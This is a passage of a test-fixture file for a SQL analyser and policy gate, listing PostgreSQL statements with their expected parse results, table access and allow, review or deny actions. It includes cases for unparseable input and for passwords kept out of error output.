    statements: [{ object_type: 'view', dml: [], tables: ['v:write', 't:read'], functions: ['f'] }],
  },
  {
    name: 'create index with function',
    sql: 'CREATE INDEX CONCURRENTLY i ON t (lower(email))',
    statements: [
      { node: 'IndexStmt', object_type: 'index', tables: ['t:write'], functions: ['lower'] },
    ],
  },
  {
    name: 'alter table add foreign key',
    sql: 'ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES u (id)',
    statements: [
      { verb: 'alter', object_type: 'table', category: 'ddl', tables: ['t:write', 'u:read'] },
    ],
  },
  {
    name: 'rename table',
    sql: 'ALTER TABLE t RENAME TO t2',
    statements: [{ node: 'RenameStmt', verb: 'alter', object_type: 'table', tables: ['t:write'] }],
  },
  {
    name: 'create trigger, rule, policy, sequence, type',
    sql: `CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f();
          CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u;
          CREATE POLICY p ON t USING (owner = current_user);
          CREATE SEQUENCE q;
          CREATE TYPE mood AS ENUM ('a')`,
    statements: [
      { object_type: 'trigger', tables: ['t:write'] },
      { object_type: 'rule', tables: ['t:write', 'u:read'], dml: [] },
      { object_type: 'policy', tables: ['t:write'] },
      { object_type: 'sequence', tables: ['q:write'] },
      { object_type: 'type' },
    ],
  },
  {
    name: 'maintenance',
    sql: 'CHECKPOINT; CLUSTER t USING i; REINDEX TABLE t; REFRESH MATERIALIZED VIEW mv',
    statements: [
      { verb: 'checkpoint' },
      { verb: 'cluster', tables: ['t:write'] },
      { verb: 'reindex', object_type: 'table' },
      { verb: 'refresh', object_type: 'materialized_view', tables: ['mv:write'] },
    ],
  },
  {
    name: 'security label',
    sql: "SECURITY LABEL FOR anon ON COLUMN people.name IS 'MASKED WITH VALUE NULL'",
    statements: [{ verb: 'security_label', category: 'dcl', tables: ['people:write'] }],
  },
  {
    name: 'create and drop database',
    sql: 'CREATE DATABASE d',
    statements: [{ node: 'CreatedbStmt', verb: 'create', object_type: 'database' }],
    action: 'review',
  },
  {
    name: 'alter database set role',
    sql: 'ALTER DATABASE d SET role = admin',
    statements: [{ node: 'AlterDatabaseSetStmt', settings: ['role'] }],
    action: 'deny',
  },

  // ---- empty and unparseable
  {
    name: 'empty text',
    sql: '',
    statements: [],
    action: 'allow',
  },
  {
    name: 'only comments and semicolons',
    sql: ' -- nothing\n ; /* still nothing */ ;',
    statements: [],
    action: 'allow',
  },
  {
    name: 'unparseable',
    sql: 'DELET FROM t',
    parseError: true,
    action: 'deny',
    codes: ['sql.parse_error'],
  },
  {
    name: 'unparseable with a password',
    sql: "CREATE ROLE x PASSWORD 'broken-secret' WITH GARBAGE GARBAGE",
    parseError: true,
    action: 'deny',
    secret: 'broken-secret',
  },
  {
    name: 'unterminated literal with a password',
    sql: "ALTER ROLE x PASSWORD 'unterminated-secret",
    parseError: true,
    action: 'deny',
    secret: 'unterminated-secret',
  },
];
